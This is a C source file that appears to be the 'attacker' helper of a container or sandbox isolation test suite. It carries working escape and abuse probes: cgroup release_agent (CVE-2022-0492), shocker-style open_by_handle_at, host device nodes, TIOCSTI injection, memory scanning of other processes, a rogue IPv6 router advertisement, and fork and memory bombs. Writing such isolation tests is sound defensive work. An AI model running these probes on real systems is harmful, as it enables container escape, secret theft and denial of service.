// The hostile program of the tests, static, so that it runs in any root file system: `attacker MODE ...`. What it gets hold
// of it writes to standard output, a line each; nothing else.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <netpacket/packet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv);

// swap A B [C D ...]: exchanges the names of each pair, as quickly as it can, until it is killed.
static int swap(int count, char **names) {
  for (;;)
    for (int i = 0; i + 1 < count; i += 2) renameat2(AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE);
}

// What descriptors of other processes, their roots, working directories, programs and memory have of `secret`, or of files
// that are not this container's: anything whose target is a path that does not exist here is the host's.
static void foreign(const char *what, const char *path) {
  char target[4096];
  ssize_t size = readlink(path, target, sizeof target - 1);
  if (size <= 0) return;
  target[size] = 0;
  struct stat facts;
  if (strncmp(target, "pipe:", 5) == 0 || strncmp(target, "socket:", 7) == 0 || strncmp(target, "anon_inode:", 11) == 0)
    return;
  if (target[0] == '/' && (stat(target, &facts) == 0 || strncmp(target, "/dev/", 5) == 0 || strncmp(target, "/proc/", 6) == 0)) {
    if (strcmp(what, "exe")) return;
    int file = open(path, O_WRONLY | O_CLOEXEC);
    // The container's own programs may be written to by its root; what runs them may not.
    if (file >= 0) {
      struct stat own;
      if (fstat(file, &facts) == 0 && stat(target, &own) == 0 && facts.st_ino != own.st_ino) printf("writable %s\n", target);
      close(file);
    }
    return;
  }
  int file = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (file >= 0) {
    // The launcher's executable is the same for all and sealed: to read it is no secret, to write it would be.
    int again = open(path, O_WRONLY | O_CLOEXEC);
    int isLauncher = strncmp(target, "/memfd:", 7) == 0;
    if (!isLauncher || again >= 0) printf("%s %s -> %s%s\n", what, path, target, again >= 0 ? " writable" : "");
    if (again >= 0) close(again);
    close(file);
  }
}

static void scanMemory(const char *directory, const char *secret) {
  char path[300], line[512];
  snprintf(path, sizeof path, "%s/maps", directory);
  FILE *maps = fopen(path, "re");
  if (!maps) return;
  snprintf(path, sizeof path, "%s/mem", directory);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  static char buffer[1 << 20];
  while (memory >= 0 && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    char mode[8];
    if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[0] != 'r' || strstr(line, "[v")) continue;
    if (to - from > sizeof buffer) to = from + sizeof buffer;
    ssize_t size = pread(memory, buffer, to - from, (off_t)from);
    if (size > 0 && memmem(buffer, (size_t)size, secret, strlen(secret))) printf("secret in %s\n", line);
  }
  if (memory >= 0) close(memory);
  fclose(maps);
}

// Of /proc/PID/status: a number after `form`; 0 when there is none.
static unsigned long long statusOf(const char *process, const char *form) {
  char path[300], line[256];
  unsigned long long value = 0;
  snprintf(path, sizeof path, "%s/status", process);
  FILE *status = fopen(path, "re");
  if (!status) return 0;
  while (fgets(line, sizeof line, status))
    if (sscanf(line, form, &value) == 1) break;
  fclose(status);
  return value;
}

static unsigned long long permitted(const char *process) { return statusOf(process, "CapPrm: %llx"); }
static unsigned long long filters(const char *process) { return statusOf(process, "Seccomp_filters: %llu"); }

// spy SECRET: looks at every other process, again and again.
static int spy(const char *secret) {
  char name[300], path[600];
  for (;;) {
    DIR *processes = opendir("/proc");
    if (!processes) return 1;
    for (struct dirent *entry; (entry = readdir(processes));) {
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid()) continue;
      snprintf(name, sizeof name, "/proc/%d", pid);
      static const char *links[] = {"exe", "cwd", "root"};
      for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "%s/%s", name, links[i]);
        foreign(links[i], path);
      }
      for (int fd = 0; fd < 24; fd++) {
        snprintf(path, sizeof path, "%s/fd/%d", name, fd);
        foreign("fd", path);
      }
      scanMemory(name, secret);
      // Whoever traces it has them as well.
      unsigned long long more = permitted(name) & ~permitted("/proc/self");
      if (more) printf("capabilities %llx\n", more);
      if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) {
        scanMemory(name, secret);
        if (filters(name) < filters("/proc/self")) printf("filters %llu\n", filters(name));
        syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
      }
    }
    closedir(processes);
    fflush(stdout);
    while (waitpid(-1, NULL, WNOHANG) > 0) continue;
  }
}

// descriptors: every open one but the standard streams.
static int descriptors(void) {
  for (int fd = 3; fd < 1100; fd++)
    if (fcntl(fd, F_GETFD) >= 0) printf("open %d\n", fd);
  return 0;
}

// cgroup: ways to release_agent (CVE-2022-0492). Nothing is ever written.
static int cgroup(void) {
  static const char *controllers[] = {"memory", "pids", "devices", "rdma", "freezer", "cpu"};
  mkdir("/cgroup-attack", 0700);
  for (int tries = 0; tries < 2; tries++) {
    for (unsigned i = 0; i < sizeof controllers / sizeof *controllers; i++) {
      if (mount("cgroup", "/cgroup-attack", "cgroup", 0, controllers[i]) != 0) continue;
      printf("mounted %s\n", controllers[i]);
      if (access("/cgroup-attack/cgroup.procs", W_OK) == 0) printf("writable %s\n", controllers[i]);
      if (open("/cgroup-attack/release_agent", O_WRONLY) >= 0) printf("release_agent %s\n", controllers[i]);
      umount("/cgroup-attack");
    }
    if (mount("cgroup2", "/cgroup-attack", "cgroup2", 0, "") == 0) {
      printf("mounted cgroup2\n");
      umount("/cgroup-attack");
    }
    if (tries == 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) return 0;
    if (tries == 0) printf("unshared\n");
  }
  return 0;
}

// inject: a character into the terminal of whoever reads it next (TIOCSTI), and a selection (TIOCLINUX).
static int inject(void) {
  char key = 'x', paste = 3;
  for (int fd = 0; fd < 3; fd++) {
    if (ioctl(fd, TIOCSTI, &key) == 0) printf("TIOCSTI\n");
    if (ioctl(fd, TIOCSTI | (1ul << 40), &key) == 0) printf("TIOCSTI with high bits\n");
    if (ioctl(fd, TIOCLINUX, &paste) == 0) printf("TIOCLINUX\n");
  }
  int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (terminal >= 0 && ioctl(terminal, TIOCSTI, &key) == 0) printf("TIOCSTI on /dev/tty\n");
  return 0;
}

// advertise LINK: this machine is the router of everybody on the link, and this is their network (RFC 4861, 4.2).
static int advertise(const char *link) {
  static const unsigned char everybody[6] = {0x33, 0x33, 0, 0, 0, 1};
  struct __attribute__((packed)) {
    struct ether_header ethernet;
    struct ip6_hdr ip;
    struct nd_router_advert router;
    struct nd_opt_prefix_info prefix;
  } frame = {0};
  memcpy(frame.ethernet.ether_dhost, everybody, 6);
  memcpy(frame.ethernet.ether_shost, "\x02\xba\xd0\0\0\1", 6);
  frame.ethernet.ether_type = htons(ETHERTYPE_IPV6);
  uint16_t size = sizeof frame - sizeof frame.ethernet - sizeof frame.ip;
  frame.ip.ip6_vfc = 6 << 4;
  frame.ip.ip6_plen = htons(size);
  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
  frame.ip.ip6_hlim = 255;
  inet_pton(AF_INET6, "fe80::bad", &frame.ip.ip6_src);
  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
  frame.router.nd_ra_type = ND_ROUTER_ADVERT;
  frame.router.nd_ra_curhoplimit = 64;
  frame.router.nd_ra_router_lifetime = htons(1800);
  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  frame.prefix.nd_opt_pi_len = 4;
  frame.prefix.nd_opt_pi_prefix_len = 64;
  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  frame.prefix.nd_opt_pi_valid_time = frame.prefix.nd_opt_pi_preferred_time = htonl(1800);
  inet_pton(AF_INET6, "2001:db8:bad::", &frame.prefix.nd_opt_pi_prefix);
  // RFC 4443, 2.3: over the addresses, the length, the protocol and the message.
  uint32_t sum = size + IPPROTO_ICMPV6;
  const unsigned char *covered = (const unsigned char *)&frame.ip.ip6_src;
  const unsigned char *end = (const unsigned char *)(&frame + 1);
  for (; covered < end; covered += 2) sum += (uint32_t)(covered[0] << 8 | covered[1]);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  frame.router.nd_ra_cksum = htons((uint16_t)~sum);
  int raw = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(link), .sll_halen = 6};
  memcpy(to.sll_addr, everybody, 6);
  for (int i = 0; i < 3; i++)
    if (sendto(raw, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return 1;
  return 0;
}

// rights PID ...: who this is, what its filter answers, and which of these processes it can get at.
static int rights(int count, char **pids) {
  printf("user %d\n", geteuid());
  char line[256];
  FILE *status = fopen("/proc/self/status", "re");
  while (status && fgets(line, sizeof line, status))
    if (!strncmp(line, "Seccomp:", 8) || !strncmp(line, "NoNewPrivs:", 11)) fputs(line, stdout);
  if (status) fclose(status);
  if (syscall(SYS_keyctl, 0, -3, 0) >= 0 || errno != EPERM) printf("keyctl\n");
  if (unshare(CLONE_NEWUSER) == 0) printf("unshare\n");
  for (int i = 0; i < count; i++) {
    int pid = atoi(pids[i]);
    char byte;
    struct iovec own = {&byte, 1}, other = {(void *)main, 1};
    if (kill(pid, 0) == 0) printf("signal %d\n", pid);
    if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) printf("trace %d\n", pid);
    if (syscall(SYS_process_vm_readv, pid, &own, 1, &other, 1, 0) >= 0) printf("read %d\n", pid);
    if (syscall(SYS_pidfd_open, pid, 0) >= 0) printf("open %d\n", pid);
  }
  return 0;
}

static void got(const char *what, long result) {
  if (result >= 0) printf("%s\n", what);
}

// What is hidden is /dev/null.
static int isNull(int file) {
  struct stat facts;
  return fstat(file, &facts) == 0 && S_ISCHR(facts.st_mode) && facts.st_rdev == makedev(1, 3);
}

// Files whose change is the host's: programs that the kernel starts (CVE-2022-0811 and its like), memory, disks, modules.
static const char *hostFiles[] = {
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/kernel/panic",
    "/proc/sys/kernel/usermodehelper/bset", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/fs/suid_dumpable",
    "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list",
    "/proc/irq/default_smp_affinity", "/proc/bus/pci/devices", "/proc/mtrr", "/proc/acpi/wakeup", "/proc/scsi/scsi",
    "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/debug/sched_features",
    "/sys/kernel/tracing/trace", "/sys/kernel/vmcoreinfo", "/sys/power/state", "/sys/module/overlay/parameters/metacopy",
    "/sys/firmware/efi/efivars", "/sys/devices/virtual/dmi/id/product_uuid", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda",
    "/dev/vda", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/loop-control", "/dev/mapper/control", "/dev/net/tun"};

// machine MAJOR MINOR INODE: ways out that need nothing but a system call; what worked is said. The numbers are a disk of
// the host's, and its root directory on it. Nothing is changed where something works.
static int machine(char **words) {
  int major = atoi(words[0]), minor = atoi(words[1]);
  for (unsigned i = 0; i < sizeof hostFiles / sizeof *hostFiles; i++) {
    int file = open(hostFiles[i], O_WRONLY | O_CLOEXEC);
    if (!isNull(file)) got(hostFiles[i], file);
  }
  // Brought along as a node of its own, in every place that takes one.
  static const char *places[] = {"/node", "/tmp/node", "/dev/node", "/dev/shm/node"};
  for (unsigned i = 0; i < sizeof places / sizeof *places; i++) {
    for (int kind = 0; kind < 2; kind++) {
      if (mknod(places[i], (kind ? S_IFBLK : S_IFCHR) | 0666, kind ? makedev(major, minor) : makedev(1, 1)) != 0) continue;
      got(kind ? "opened the disk" : "opened the memory", open(places[i], O_RDONLY | O_CLOEXEC));
      unlink(places[i]);
    }
  }
  // By its handle (shocker.c): a file of the host on the same file system, from any descriptor that is on it.
  struct {
    struct file_handle head;
    unsigned inode, generation;
  } handle = {{.handle_bytes = 8, .handle_type = 1}, (unsigned)atoi(words[2]), 0};
  static const char *onHost[] = {"/", "/etc/resolv.conf", "/bin/attacker", "/dev/null", "/proc"};
  for (unsigned i = 0; i < sizeof onHost / sizeof *onHost; i++) {
    int mount = open(onHost[i], O_RDONLY | O_CLOEXEC);
    got("opened by handle", open_by_handle_at(mount, &handle.head, O_RDONLY));
    close(mount);
  }
  static const char *spaces[] = {"cgroup", "ipc", "mnt", "net", "pid", "user", "uts"};
  char path[64];
  for (unsigned i = 0; i < sizeof spaces / sizeof *spaces; i++) {
    snprintf(path, sizeof path, "/proc/1/ns/%s", spaces[i]);
    got(path, setns(open(path, O_RDONLY | O_CLOEXEC), 0));
  }
  for (int bit = 7; bit < 32; bit++)
    if (1u << bit & (CLONE_NEWNS | CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWCGROUP | 0x80))
      got("unshare", syscall(SYS_unshare, 1u << bit));
  char none[128] = {0};
  long child = syscall(SYS_clone3, none, 64);
  if (child == 0) _exit(0);
  got("clone3", child);
  got("io_uring", syscall(SYS_io_uring_setup, 1, none));
  got("userfaultfd", syscall(SYS_userfaultfd, 0));
  got("bpf", syscall(SYS_bpf, 0, (int[32]){2, 4, 4, 1}, 128));
  got("perf", syscall(SYS_perf_event_open, (int[32]){1, 128}, 0, -1, -1, 0));
  got("session keyring", syscall(SYS_keyctl, 0, -3, 0));
  got("key", syscall(SYS_add_key, "user", "k", "v", 1, -4));
  got("mount", syscall(SYS_mount, "tmpfs", "/tmp", "tmpfs", 0, 0));
  got("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  got("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1));
  got("umount", syscall(SYS_umount2, "/proc", MNT_DETACH));
  got("chroot", syscall(SYS_pivot_root, "/", "/"));
  got("quota", syscall(SYS_quotactl, 0x800007 << 8, 0, 0, none));
  got("swap", syscall(SYS_swapoff, "/nothing"));
  got("log", syscall(SYS_syslog, 3, none, sizeof none));
  got("accounting", syscall(SYS_acct, 0));
  got("clock", syscall(SYS_clock_settime, 0, none));
  got("host name", syscall(SYS_sethostname, "x", 1));
  got("module", syscall(SYS_delete_module, "nothing", 0));
#ifdef SYS_iopl
  got("ports", syscall(SYS_iopl, 3));
  got("port", syscall(SYS_ioperm, 0x80, 1, 1));
#endif
  got("vsock", socket(40, SOCK_STREAM, 0));
  got("audit", sendto(socket(AF_NETLINK, SOCK_RAW, 9), none, 0, 0, (struct sockaddr *)&(struct sockaddr){AF_NETLINK}, 12));
  got("oom_score_adj", write(open("/proc/self/oom_score_adj", O_WRONLY), "-1000", 5));
  got("nice", setpriority(PRIO_PROCESS, 0, -5));
  return 0;
}

static int forkBomb(void) {
  signal(SIGCHLD, SIG_IGN);
  for (;;)
    if (fork() < 0) usleep(1000);
}

static int memoryBomb(void) {
  for (size_t size = 1 << 20;;) {
    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) return 3;
    for (size_t at = 0; at < size; at += 4096) memory[at] = 1;
  }
}

// see NAME ...: which of these files can be read, and what they say.
static int see(int count, char **names) {
  for (int i = 0; i < count; i++) {
    char text[64] = {0};
    int file = open(names[i], O_RDONLY | O_CLOEXEC);
    if (file >= 0 && read(file, text, sizeof text - 1) > 0) printf("%s: %s\n", names[i], text);
    if (file >= 0) close(file);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *mode = argv[1];
  if (!strcmp(mode, "swap")) return swap(argc - 2, argv + 2);
  if (!strcmp(mode, "spy")) return spy(argv[2]);
  if (!strcmp(mode, "descriptors")) return descriptors();
  if (!strcmp(mode, "cgroup")) return cgroup();
  if (!strcmp(mode, "inject")) return inject();
  if (!strcmp(mode, "advertise")) return advertise(argv[2]);
  if (!strcmp(mode, "fork-bomb")) return forkBomb();
  if (!strcmp(mode, "memory-bomb")) return memoryBomb();
  if (!strcmp(mode, "see")) return see(argc - 2, argv + 2);
  if (!strcmp(mode, "machine")) return argc == 5 ? machine(argv + 2) : 2;
  if (!strcmp(mode, "rights")) return rights(argc - 2, argv + 2);
  if (!strcmp(mode, "sleep")) return pause();
  return 2;
}
